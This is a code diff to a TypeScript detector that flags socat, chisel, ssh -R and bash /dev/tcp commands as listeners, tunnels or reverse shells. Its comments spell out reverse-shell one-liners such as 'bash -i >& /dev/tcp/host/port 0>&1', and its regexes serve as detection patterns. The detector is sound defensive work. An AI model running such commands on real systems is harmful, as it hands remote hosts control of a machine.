@@ -106,6 +106,8 @@ function socat({ program, arguments: words }: Command): Found | null {
   );
   const runs = words.some((word) => /^(?:EXEC|SYSTEM|SHELL|PTY)[:,]/i.test(word));
   const calls = words.some((word) => /^(?:TCP[46]?|SCTP[46]?|OPENSSL|SSL|VSOCK)(?:-CONNECT)?:/i.test(word));
+  // A port handed on to another service runs nothing here.
+  if (listens && calls && !runs) return null;
   if (listens) return { what: 'listener', message: 'listens on a socket (socat)' };
   return runs && calls ? { what: 'reverse', message: 'hands a program to a remote host (socat)' } : null;
 }
@@ -122,6 +124,8 @@ function inetShell({ program, arguments: words, wrappers }: Command): Found | nu
 
 /** `ssh -R`, in a cluster (`-fNR`) or not: a port of the remote host leads into the container (ssh(1), "-R"). */
 function reverseTunnel({ program, arguments: words }: Command): Found | null {
+  if (program === 'chisel' && words[0] === 'client' && words.some((word) => /^R:/.test(word)))
+    return { what: 'reverse', message: 'opens a port of a remote host into the container (chisel)' };
   if (program !== 'ssh' && program !== 'autossh') return null;
   return sshOptions(words, program).some((word) => /^-[AaCfGgKkMNnqsTtvXxYy46]*R/.test(word))
     ? { what: 'reverse', message: `opens a port of a remote host into the container (${program} -R)` }
@@ -147,11 +151,14 @@ function sshOptions(words: readonly string[], program: string): readonly string[
   return options;
 }
 
-/** `bash -i >& /dev/tcp/host/port 0>&1`: bash(1), "REDIRECTION". Without `-i` or redirected input it is a probe. */
+/** `bash -i >& /dev/tcp/host/port 0>&1`, `sh >/dev/tcp/host/port <&1`: bash(1), "REDIRECTION". Without `-i` or redirected input it is a probe. */
 function deviceShell({ program, redirects, arguments: words }: Command): Found | null {
   const interactive = words.some((word) => /^-[a-hj-z]*i[a-z]*$/.test(word));
   const remote = redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
-  return isShell(program) && interactive && remote
+  const answered = redirects.some(
+    ({ operator, descriptor }) => operator === '<&' || (operator === '>&' && descriptor === '0'),
+  );
+  return isShell(program) && (interactive || answered) && remote
     ? { what: 'reverse', message: `hands a shell to a remote host (${program})` }
     : null;
 }
